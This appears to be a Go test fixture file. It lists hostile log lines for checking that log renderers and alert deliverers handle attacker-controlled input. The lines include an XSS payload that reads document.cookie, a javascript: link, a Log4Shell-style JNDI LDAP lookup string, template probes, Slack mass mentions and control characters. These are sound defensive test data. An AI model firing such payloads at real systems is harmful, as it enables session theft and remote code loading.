package demo

import (
	"strings"
	"sync"
)

// hostileLines are what attackers put into logs, so that every renderer and
// deliverer is exercised on them: Markdown table breakers, HTML, Slack
// broadcast mentions, template and JNDI probes, invalid UTF-8, control
// characters and embedded newlines. They are logged by the DMZ firewall's
// alert shipper when it rejects a request, and are error lines.
var hostileLines = []string{
	"ERROR rejected request uri=\"/search?q=a|b|c\" ua=\"`curl` | **bold** | [click](javascript:alert(1)) ``` code\"",
	"ERROR rejected request uri=\"/<script>alert('xss')</script>\" referer=\"<img src=x onerror=alert(document.cookie)>\"",
	"ERROR notify relay refused: <!channel> <!here> @everyone <@U024BE7LH> please check *now*",
	"ERROR bad header bytes \xff\xfe\xc3\x28 \xe2\x82 from 203.0.113.9",
	"ERROR control chars \x1b[31mRED\x1b[0m \x00 nul \x07 bell \x08 back\r\n# Injected heading\n| a | b |\n|---|---|",
	"ERROR probe {{.Secret}} {{template \"x\"}} ${jndi:ldap://203.0.113.9/a} </td></tr></table><!-- -->",
}

// oversizeLine is a single 1 MiB log event (a padded header), built on
// first use so that a program that never scans the DMZ group never holds it.
var oversizeLine = sync.OnceValue(func() string {
	return "ERROR oversized header X-Pad: " + strings.Repeat("A", 1<<20)
})
